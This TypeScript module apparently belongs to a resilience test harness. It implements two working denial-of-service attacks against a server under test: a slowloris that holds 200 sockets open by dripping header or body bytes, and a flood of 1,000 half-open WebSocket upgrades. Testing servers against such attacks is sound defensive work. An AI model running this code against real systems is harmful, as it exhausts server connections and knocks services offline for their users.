/** Attacks that open sockets and never finish what they began. */
import type { Socket } from 'node:net';
import { connect } from 'node:net';
import type { Saw, Scene } from './attacks.ts';
import { every } from './metronome.ts';

/** 200 sockets that say a byte of their headers or of their body now and then; each that is cut off is opened again. */
export function slowLoris(scene: Scene): Promise<Saw> {
  const head = 'GET / HTTP/1.1\r\nHost: x\r\n';
  // A body that nobody asked for: the answer comes at once, and the socket waits for the rest.
  const body = 'GET /healthz HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\n';
  const sockets = { count: 200, again: true, begunMs: CUT_MS };
  return hold(scene, sockets, (k) => ({
    first: k % 2 === 0 ? head : body,
    drip: k % 2 === 0 ? 'X-A: b\r\n' : 'x',
  }));
}

/** 1,000 WebSockets: 300 whole upgrades that never say hello, and 700 upgrades that never end. All are cut off while it is watched. */
export function halfOpenSockets(scene: Scene): Promise<Saw> {
  const upgrade =
    'GET /ws HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n' +
    'Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n';
  const sockets = { count: 1000, again: false, begunMs: 0 };
  return hold(scene, sockets, (k) => ({ first: k < 300 ? `${upgrade}\r\n` : upgrade, drip: '' }));
}

interface Slow {
  readonly first: string;
  readonly drip: string;
}

interface Sockets {
  readonly count: number;
  /** Opens them again when they were cut off. */
  readonly again: boolean;
  /** ms after which it has begun, once all have been opened. */
  readonly begunMs: number;
}

/** Opens sockets, and keeps them busy or silent until it is over. */
async function hold(
  scene: Scene,
  { count, again, begunMs }: Sockets,
  of: (k: number) => Slow,
): Promise<Saw> {
  const { hostname, port } = new URL(scene.url);
  const sockets: (Socket | null)[] = [];
  let opened = 0;
  let cut = 0;
  const startMs = performance.now();
  const open = (k: number): void => {
    const socket = connect(Number(port), hostname);
    sockets[k] = socket;
    opened += 1;
    socket.on('error', () => undefined);
    socket.resume();
    socket.write(of(k).first);
    socket.once('close', () => {
      cut += 1;
      sockets[k] = null;
    });
  };
  let next = 0;
  await every(20, scene.over, () => {
    // 250 a second: many sockets are the attack, not a storm of new ones.
    for (let looks = 0; looks < 5; looks += 1, next = (next + 1) % count) {
      const socket = sockets[next];
      if (socket === undefined || (socket === null && again)) open(next);
      else if (socket?.destroyed === false && of(next).drip !== '') socket.write(of(next).drip);
    }
    if (opened >= count && performance.now() - startMs > begunMs) scene.begun();
  });
  for (const socket of sockets) socket?.destroy();
  return { opened, cut };
}

/** ms after which those that were opened first have been over the limit for headers. */
const CUT_MS = 6500;
